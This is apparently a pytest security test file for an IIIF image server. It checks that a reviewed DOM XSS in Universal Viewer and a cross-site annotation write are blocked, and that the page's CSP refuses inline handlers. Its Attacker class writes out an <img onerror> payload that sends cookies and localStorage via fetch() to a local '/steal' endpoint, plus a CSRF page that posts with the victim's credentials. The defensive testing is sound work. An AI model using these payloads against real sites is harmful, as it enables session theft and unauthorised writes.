"""Security review finding #1 (DOM XSS through Universal Viewer's share dialogue) and #10, in
Debian's Chromium against a real uvicorn: an attacker's manifest, served with CORS from a second
local origin that logs every request, carries the review's payload in ``homepage`` and ``id``.

Opened by a link (``/viewer/uv?manifest=<attacker URL>``) or registered by a non-editor and
clicked on the landing page, it runs no script and finds no credential page script could read;
both viewers still show the image. A signed-in editor's cookie cannot write cross-site.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, Page, Response

from iiifsrv import samples
from tests.conftest import LiveServer, free_port, start_server, stop_server
from tests.test_viewers_e2e import (
    BUILD,
    CHROMIUM,
    OSD_CANVAS,
    VIEWPORT,
    is_image_api,
    readable_credentials,
    sign_in_through_the_form,
)
from tests.test_viewers_e2e import browser as browser  # noqa: F401  (the shared fixture)

EDITOR = "victim-editor-Zq8vN2kLx4Rw7TyPm3Hc"
BOB = "attacker-bob-Jd5sQ9fWb2Ge6UoXn8Kt"
STOLEN = "/steal"


class Attacker:
    """The attacker's web site: manifests with the payload, a cross-site write page, a log."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.requests: list[str] = []
        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), self._handler())
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        info = httpx.get(f"{target}/iiif/3/flat/info.json").json()
        self.size = (int(info["width"]), int(info["height"]))
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def payload(self, mark: str) -> str:
        """The review's payload: leaves the attribute, an <img onerror> that exfiltrates."""
        js = (
            f"window.__pwned='{mark}';fetch('{self.url}{STOLEN}?m={mark}&c='"
            "+encodeURIComponent(document.cookie)"
            "+'&l='+encodeURIComponent(JSON.stringify(localStorage)))"
        )
        return f'"><img src=x onerror="{js}">'

    def manifest(self, ident: str, homepage: str | None) -> dict[str, Any]:
        width, height = self.size
        canvas = f"{self.url}/canvas/1"
        service = f"{self.target}/iiif/3/flat"
        doc: dict[str, Any] = {
            "@context": "http://iiif.io/api/presentation/3/context.json",
            "id": ident,
            "type": "Manifest",
            "label": {"en": ["Harmless looking manuscript"]},
            "items": [{
                "id": canvas, "type": "Canvas", "width": width, "height": height,
                "items": [{
                    "id": f"{self.url}/page/1", "type": "AnnotationPage",
                    "items": [{
                        "id": f"{self.url}/anno/1", "type": "Annotation",
                        "motivation": "painting", "target": canvas,
                        "body": {
                            "id": f"{service}/full/max/0/default.jpg", "type": "Image",
                            "format": "image/jpeg", "width": width, "height": height,
                            "service": [{"id": service, "type": "ImageService3",
                                         "profile": "level2"}],
                        },
                    }],
                }],
            }],
        }  # fmt: skip
        if homepage is not None:
            doc["homepage"] = [
                {"id": homepage, "type": "Text", "label": {"en": ["home"]}, "format": "text/html"}
            ]
        return doc

    def documents(self) -> dict[str, tuple[str, bytes]]:
        homepage = self.manifest(f"{self.url}/homepage.json", f"{self.url}/{self.payload('hp')}")
        ident = self.manifest(f"{self.url}/id.json#{self.payload('id')}", None)
        write = (
            "<!doctype html><script>"
            f"fetch({json.dumps(self.target + '/annotot')}, {{method: 'POST', mode: 'no-cors',"
            " credentials: 'include', headers: {'Content-Type': 'text/plain'},"
            " body: JSON.stringify({annotation: {canvas: 'x', uuid: 'urn:csrf', data: '{}'}})})"
            ".then(() => { document.title = 'sent'; });</script>"
        )
        return {
            "/homepage.json": ("application/json", json.dumps(homepage).encode()),
            "/id.json": ("application/json", json.dumps(ident).encode()),
            "/write.html": ("text/html", write.encode()),
        }

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                attacker.requests.append(self.path)
                found = attacker.documents().get(self.path.split("?")[0])
                body = found[1] if found else b"not found\n"
                self.send_response(200 if found else 404)
                self.send_header("Content-Type", found[0] if found else "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        return Handler

    def stolen(self) -> list[str]:
        return [r for r in self.requests if r.startswith(STOLEN)]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    if not (BUILD / "uv" / "umd" / "UV.js").is_file() or not CHROMIUM.is_file():
        pytest.fail("missing the viewer build or chromium: run scripts/setup --test")
    root = tmp_path_factory.mktemp("xss")
    images, data = root / "images", root / "data"
    samples.ensure(images, small=True, data=data)
    live = start_server(images, data, env={"IIIFSRV_TOKENS": f"{EDITOR}=ed:editor,{BOB}=bob"})
    yield live
    stop_server(live)


@pytest.fixture(scope="module")
def attacker(server: LiveServer) -> Iterator[Attacker]:
    evil = Attacker(server.url)
    evil.thread.start()
    yield evil
    evil.server.shutdown()
    evil.server.server_close()


@pytest.fixture
def victim(browser: Browser, server: LiveServer) -> Iterator[Page]:  # noqa: F811
    """An editor who has signed in on the Mirador page (the session the attack is after)."""
    context = browser.new_context(viewport=VIEWPORT)  # type: ignore[arg-type]
    context.set_default_timeout(30_000)
    tab = context.new_page()
    errors: list[str] = []
    tab.on("pageerror", lambda exc: errors.append(str(exc)))
    tab.goto(f"{server.url}/viewer/mirador")
    sign_in_through_the_form(tab, EDITOR)
    yield tab
    context.close()
    assert not errors, f"uncaught errors in the page: {errors}"


def assert_nothing_ran(page: Page, attacker: Attacker) -> None:
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__pwned") is None, "the payload ran"
    assert attacker.stolen() == [], attacker.requests
    assert page.locator("img[onerror]").count() == 0, "the payload reached the DOM"
    assert readable_credentials(page) == {"cookie": "", "local": 0, "session": 0}


def uv_shows_the_image(page: Page) -> None:
    page.locator(OSD_CANVAS).first.wait_for()
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("document", ["/homepage.json", "/id.json"])
def test_link_to_uv_with_an_attackers_manifest_runs_no_script(
    server: LiveServer, attacker: Attacker, victim: Page, document: str
) -> None:
    images: list[Response] = []
    victim.on("response", lambda r: images.append(r) if is_image_api(r) else None)
    manifest = quote(attacker.url + document, safe="")
    victim.goto(f"{server.url}/viewer/uv?manifest={manifest}")
    uv_shows_the_image(victim)
    assert document in attacker.requests, "UV fetched the attacker's manifest"
    assert_nothing_ran(victim, attacker)
    assert images and all(200 <= r.status < 300 for r in images)


def test_csp_blocks_inline_handlers_even_if_html_is_injected(
    server: LiveServer, attacker: Attacker, victim: Page
) -> None:
    """Defence in depth: whatever a viewer concatenates, the page's policy refuses inline
    event handlers (the review's mitigation, checked on the real page)."""
    manifest = quote(attacker.url + "/homepage.json", safe="")
    victim.goto(f"{server.url}/viewer/uv?manifest={manifest}")
    uv_shows_the_image(victim)
    violations = victim.evaluate(
        """(html) => new Promise((done) => {
            const seen = [];
            document.addEventListener('securitypolicyviolation',
                (e) => { seen.push(e.violatedDirective); done(seen); });
            document.body.insertAdjacentHTML('beforeend', html);
            setTimeout(() => done(seen), 3000);
        })""",
        attacker.payload("injected"),
    )
    assert violations and violations[0].startswith("script-src"), violations
    assert victim.evaluate("window.__pwned") is None
    assert attacker.stolen() == []


def test_stored_manifest_clicked_on_the_landing_page_runs_no_script(
    server: LiveServer, attacker: Attacker, victim: Page
) -> None:
    doc = attacker.manifest(f"{attacker.url}/m.json", f"{attacker.url}/{attacker.payload('st')}")
    put = httpx.put(
        f"{server.url}/iiif/manifests/innocent",
        json=doc,
        headers={"Authorization": f"Bearer {BOB}"},
    )
    assert put.status_code == 201, put.text  # a non-editor may register it
    victim.goto(f"{server.url}/")
    entry = victim.locator("li.object[data-id=innocent]")
    with victim.expect_navigation():
        entry.locator("a.uv").click()
    uv_shows_the_image(victim)
    assert_nothing_ran(victim, attacker)

    # Mirador shows the same manifest, its tiles all 2xx.
    tiles: list[Response] = []
    victim.on("response", lambda r: tiles.append(r) if is_image_api(r) else None)
    victim.go_back()
    with victim.expect_navigation():
        victim.locator("li.object[data-id=innocent] a.mirador").click()
    victim.locator(OSD_CANVAS).first.wait_for()
    victim.wait_for_load_state("networkidle")
    assert any("/default.jpg" in r.url for r in tiles), [r.url for r in tiles]
    assert all(200 <= r.status < 300 for r in tiles), [(r.status, r.url) for r in tiles]
    assert_nothing_ran(victim, attacker)


def test_cross_site_write_with_the_session_cookie_is_refused(
    server: LiveServer,
    attacker: Attacker,
    victim: Page,
    browser: Browser,  # noqa: F811
) -> None:
    def cross_site_write(page: Page) -> int:
        with page.expect_response(lambda r: r.url == f"{server.url}/annotot") as answer:
            page.goto(f"{attacker.url}/write.html")
        return answer.value.status

    assert httpx.get(f"{server.url}/annotot/urn%3Acsrf").status_code == 404
    # The browser sends the victim's cookie (same site: another port of the same host); the
    # server finds the session and refuses the write without the CSRF value: 403 ...
    assert cross_site_write(victim) == 403
    # ... where a browser without the session gets 401 (so the cookie did reach the server).
    stranger = browser.new_context()
    try:
        assert cross_site_write(stranger.new_page()) == 401
    finally:
        stranger.close()
    assert httpx.get(f"{server.url}/annotot/urn%3Acsrf").status_code == 404
